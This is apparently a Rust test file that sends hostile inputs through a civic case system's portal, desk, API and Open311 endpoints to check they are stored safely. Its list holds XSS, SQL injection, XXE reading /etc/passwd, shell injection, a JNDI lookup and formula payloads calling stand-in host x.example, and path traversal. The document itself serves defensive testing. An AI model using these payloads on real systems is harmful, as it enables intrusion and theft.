//! Hostile words, each through all four doors.

use super::judged::{CONTACT, Judged, NAME};
use axum::body::Body;
use axum::http::{Request, header};
use serde_json::json;

/// What people have tried on others' programs, by kind.
fn texts() -> Vec<(&'static str, String)> {
    let mut texts: Vec<(&'static str, String)> = vec![
        ("script", "<script>alert(1)</script>".into()),
        ("script in capitals", "<SCRIPT SRC=//x.example/a.js></SCRIPT>".into()),
        ("picture that fails", "<img src=x onerror=alert(1)>".into()),
        ("svg", "<svg onload=alert(1)>".into()),
        ("svg with a slash", "<svg/onload=alert(1)//".into()),
        ("frame", "<iframe src=javascript:alert(1)></iframe>".into()),
        ("attribute broken out of", "\" autofocus onfocus=alert(1) x=\"".into()),
        ("attribute with apostrophes", "' onmouseover='alert(1)".into()),
        ("link that runs", "<a href=\"javascript:alert(1)\">x</a>".into()),
        ("text area closed", "</textarea><script>alert(1)</script>".into()),
        ("title closed", "</title><script>alert(1)</script>".into()),
        ("comment", "--><script>alert(1)</script><!--".into()),
        ("cdata", "]]><script>alert(1)</script>".into()),
        ("entities", "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;".into()),
        ("half entity", "&#".into()),
        ("style", "<style>*{background:url(//x.example)}</style>".into()),
        ("server side include", "<!--#exec cmd=\"ls\" -->".into()),
        (
            "external entity",
            "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>".into(),
        ),
        ("billion laughs", "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;\">".into()),
        ("statement ended", "'; DROP TABLE cases; --".into()),
        ("always true", "' OR '1'='1".into()),
        ("union", "1 UNION SELECT name, password_hash FROM accounts --".into()),
        ("argument marks", "$1 ? ?1 :a @a %s".into()),
        ("like", "%_%'%".into()),
        ("full-text words", "\" OR NEAR(a b) * ^ AND NOT".into()),
        (
            "template",
            "{{7*7}} {% raw %} {{ f.person }} ${7*7} #{7*7} <%= 7*7 %>".into(),
        ),
        ("message", "{ $number } { -brand } { NUMBER(1) }".into()),
        ("format", "%n%n%n%s%x %d {} {0} {:?}".into()),
        ("shell", "$(reboot) `reboot` ; reboot | reboot & reboot".into()),
        ("path", "../../../../etc/passwd ..\\..\\boot.ini %2e%2e%2f".into()),
        ("lookup", "${jndi:ldap://x.example/a}".into()),
        ("formula", "=HYPERLINK(\"http://x.example\",\"x\")".into()),
        ("formula with a plus", "+1+cmd|' /C calc'!A0".into()),
        ("formula with an at", "@SUM(1+1)*cmd|' /C calc'!A0".into()),
        (
            "header",
            "a\r\nSet-Cookie: session=x\r\n\r\n<script>alert(1)</script>".into(),
        ),
        ("mail header", "x\nBcc: everybody@x.example\nSubject: y".into()),
        ("turned round", "invoice\u{202e}fdp.exe".into()),
        ("isolates", "\u{2066}\u{2067}\u{2068}a\u{2069}".into()),
        ("nothing to see", "a\u{200b}\u{200c}\u{200d}\u{2060}b".into()),
        ("byte order marks", "\u{feff}a\u{feff}".into()),
        ("bell and escape", "a\u{7}\u{1b}[31mred\u{1b}[0m".into()),
        ("nought", "a\0b\0".into()),
        ("no character", "\u{ffff}\u{fffe}\u{fdd0} a".into()),
        ("private use", "\u{e000}\u{f8ff}\u{10fffd} a".into()),
        ("tags", "a\u{e0001}\u{e0041}\u{e007f}".into()),
        ("stacked marks", format!("Z{}", "\u{301}".repeat(300))),
        ("ligature", "\u{fdfd}".repeat(40)),
        ("family", "👨\u{200d}👩\u{200d}👧\u{200d}👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿".into()),
        ("right to left", "שלום مرحبا \u{200f}abc\u{200e}".into()),
        ("rare characters", "𠮷𡈽𪚥 㐀 龘".into()),
        (
            "full width",
            "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞".into(),
        ),
        (
            "line ends of all kinds",
            "a\rb\u{85}c\u{2028}d\u{2029}e\u{b}f\u{c}g".into(),
        ),
    ];
    texts.extend(long_ones());
    // One each for characters that parsers trip over, wherever they stand.
    for c in [
        '\u{1}',
        '\u{7f}',
        '\u{80}',
        '\u{ad}',
        '\u{d7ff}',
        '\u{e000}',
        '\u{fffd}',
        '\u{10ffff}',
    ] {
        texts.push(("a single character", format!("{c}x{c}")));
    }
    texts
}

/// Texts that are long, or as good as empty.
fn long_ones() -> Vec<(&'static str, String)> {
    vec![
        ("lines", "a\n".repeat(3_000)),
        ("a long word", "a".repeat(9_000)),
        ("as long as it may be", "长".repeat(10_000)),
        ("a character too long", "长".repeat(10_001)),
        ("much too long", "长".repeat(60_000)),
        ("brackets", "[".repeat(5_000)),
        ("spaces", format!("{}x", " ".repeat(5_000))),
        ("only spaces", " \n\t  \u{3000}".into()),
        ("nothing", String::new()),
        ("null", "null".into()),
        ("undefined", "undefined NaN Infinity -0 1e999".into()),
        (
            "telephone numbers",
            format!("call 13800138000 {}", "13800138000".repeat(50)),
        ),
        ("a public word", "zzpublicrubbish".into()),
    ]
}

pub(super) async fn send_all(judged: &mut Judged<'_>) {
    for (n, (kind, text)) in texts().into_iter().enumerate() {
        portal(judged, &format!("portal: {kind} {n}"), &text).await;
        desk(judged, &format!("desk: {kind} {n}"), &text).await;
        api(judged, &format!("api: {kind} {n}"), &text).await;
        open311(judged, &format!("open311: {kind} {n}"), &text).await;
    }
}

async fn portal(judged: &mut Judged<'_>, what: &str, text: &str) {
    let mut browser = judged.somebody();
    let token = browser.get("/portal/ask").await.hidden("csrf");
    let fields = [
        ("csrf", token.as_str()),
        ("key", "one"),
        ("description", text),
        ("address", text),
        ("requester_name", NAME),
        ("requester_contact", CONTACT),
    ];
    let checked = browser
        .post("/portal/ask", &[&fields[..], &[("question", "contact")]].concat())
        .await;
    assert!(!checked.status.is_server_error(), "{what}");
    let language = browser.language;
    let answer = browser.upload_as_is("/portal/ask/send", &fields, ("", b"")).await;
    if judged.look(what, language, &answer) {
        let number = judged.number_of(&mut browser, answer.header("location")).await;
        judged.keeps(what, &number, text);
    }
}

async fn desk(judged: &mut Judged<'_>, what: &str, text: &str) {
    let fields = [
        ("kind", "request"),
        ("title", text),
        ("description", text),
        ("category", "sanitation"),
        ("unit", "water"),
        ("address", text),
        ("requester_name", NAME),
    ];
    let answer = judged.clerk.fill("/cases/new", "/cases", &fields).await;
    if judged.look(what, "en", &answer) {
        let number = answer.header("location").trim_start_matches("/cases/").to_owned();
        judged.keeps(what, &number, text);
    }
}

async fn api(judged: &mut Judged<'_>, what: &str, text: &str) {
    let body = json!({
        "category": "sanitation", "title": "x", "description": text, "unit": "water",
        "place": { "address": text.replace('\n', " ") },
        "sealed": { "requester_name": NAME, "requester_contact": CONTACT },
    });
    let mut browser = judged.somebody();
    let request = Request::post("/api/v1/cases")
        .header(header::AUTHORIZATION, format!("Bearer {}", judged.secret))
        .header(header::CONTENT_TYPE, "application/json");
    let answer = browser.send(request.body(Body::from(body.to_string())).unwrap()).await;
    if judged.look(what, browser.language, &answer) {
        let number = answer.json()["number"].as_str().unwrap().to_owned();
        judged.keeps(what, &number, text);
    }
}

async fn open311(judged: &mut Judged<'_>, what: &str, text: &str) {
    let mut browser = judged.somebody();
    let fields = [
        ("api_key", judged.secret.as_str()),
        ("service_code", "sanitation"),
        ("lat", "30.25"),
        ("long", "120.15"),
        ("address_string", text),
        ("description", text),
        ("first_name", NAME),
        ("phone", CONTACT),
    ];
    let answer = browser.post("/open311/v2/requests.json", &fields).await;
    if judged.look(what, browser.language, &answer) {
        let token = answer.json()[0]["token"].as_str().unwrap().to_owned();
        let number = judged.number_of(&mut browser, &format!("/portal/mine/{token}")).await;
        judged.keeps(what, &number, text);
    }
}
